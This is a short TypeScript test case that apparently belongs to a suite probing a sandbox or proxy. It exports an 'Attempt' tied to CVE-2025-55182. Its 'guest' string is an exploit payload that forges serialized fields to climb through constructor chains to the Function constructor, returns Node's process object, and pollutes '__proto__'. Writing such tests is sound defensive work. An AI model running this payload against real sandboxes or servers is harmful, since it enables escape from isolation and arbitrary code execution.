import type { Attempt } from '../../attempt.ts'

export default {
  technique: 'Walks a path of forbidden names that its own proxy would refuse.',
  source: 'CVE-2025-55182',
  guest: `
    forge((fields) => [...fields, 1, 7000, 0 | 16 | 64, 0, ['host', 'ping', 'constructor'], null, null, 1, 7001, 2 | 16, 0, ['host', 'ping', 'constructor', 'constructor'], ['return process'], null, 1, 7002, 0 | 16, 0, ['host', '__proto__', 'polluted'], null, null])
    host.ping()`,
} satisfies Attempt
